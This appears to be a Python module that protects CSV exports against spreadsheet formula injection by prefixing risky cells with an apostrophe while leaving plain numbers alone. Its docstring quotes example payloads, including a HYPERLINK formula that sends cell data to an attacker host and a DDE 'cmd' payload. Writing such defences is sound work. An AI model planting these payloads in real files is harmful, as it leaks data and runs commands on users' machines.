"""CSV files people open in a spreadsheet: text that a spreadsheet would run as a formula is
written as text.

Excel, LibreOffice and Google Sheets take a cell starting with ``=``, ``+``, ``-`` or ``@`` for a
formula (``=HYPERLINK("https://attacker/?"&A1, "Click")``, ``@SUM(…)``, ``+cmd|' /C calc'!A0``),
and some importers also when a tab or carriage return comes first. Such a string cell is written
with a leading apostrophe (OWASP's advice), which spreadsheets show as text. Also neutralised:
the same signs in their full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20, which some input
methods turn into the ASCII ones) and any of them after leading whitespace (importers that trim
cells).

Numbers stay numbers: an ``int`` or ``float`` is never touched, and a string that is a plain
number (``-5``, ``+3.5``, ``-1,234.50``, ``-12%``, ``1e-3``) is left as it is — no spreadsheet
runs it, and a campaign table's negative values are data. ``-5+3`` is not a plain number and is
neutralised.

Every CSV the app hands to people goes through ``writer``: the insights members table, a
campaign table's download and the tables inside an exported context pack. The campaign table
stored in the database (``ContextVersion.table_gz``) is kept as uploaded; it is neutralised on the
way out.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FULL_WIDTH = "\uff1d\uff0b\uff0d\uff20"  # = + - @
TRIGGERS = frozenset("=+-@\t\r" + FULL_WIDTH)
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutral(value: Any) -> Any:
    """``value`` as a spreadsheet should show it: a string that would start a formula gets a
    leading ``'``; everything else (numbers, ``None``, other text) is returned unchanged."""
    if not isinstance(value, str) or not value:
        return value
    first = value[0]
    if first not in TRIGGERS:
        if not first.isspace():
            return value
        first = value.lstrip()[:1]
        if first not in TRIGGERS:
            return value
        return "'" + value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell (see the module doc)."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutral(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **options: Any) -> SafeWriter:
    """A CSV writer for files people open in a spreadsheet; ``options`` as ``csv.writer``'s."""
    return SafeWriter(out, **options)
